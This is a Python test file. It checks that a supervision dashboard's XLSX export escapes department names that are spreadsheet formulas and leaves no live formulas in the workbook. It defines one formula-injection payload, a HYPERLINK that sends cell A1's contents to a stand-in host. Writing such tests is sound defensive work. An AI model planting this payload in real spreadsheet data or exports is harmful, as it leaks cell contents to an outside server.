"""The supervision workbook never carries a live formula, whatever a department is called."""

from __future__ import annotations

import io

import openpyxl
from sqlalchemy import update

from tongban.org.models import Department

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"市场监管局")'


def _export(client, inspector) -> bytes:
    response = client.get("/api/v1/supervision/dashboard/xlsx", headers=inspector)
    assert response.status_code == 200, response.text
    return response.content


def test_a_name_that_is_a_formula_is_exported_as_text(own_database, client, as_role):
    inspector = as_role("inspector")
    first = openpyxl.load_workbook(io.BytesIO(_export(client, inspector)))["部门汇总"]
    code = first.cell(row=2, column=1).value  # a department the board lists
    assert code
    with own_database.sessionmaker()() as db:
        db.execute(update(Department).where(Department.code == code).values(name=EVIL))
        db.commit()
    response = client.get("/api/v1/supervision/dashboard/xlsx", headers=inspector)
    assert response.status_code == 200, response.text
    book = openpyxl.load_workbook(io.BytesIO(response.content))  # formulas as written, not their results
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@"))]
    summary = book["部门汇总"]
    names = {row[0].value: row[1].value for row in summary.iter_rows(min_row=2)}
    assert names[code] == "'" + EVIL
    assert all(isinstance(row[2].value, (int, float)) for row in summary.iter_rows(min_row=2))  # figures stay numbers
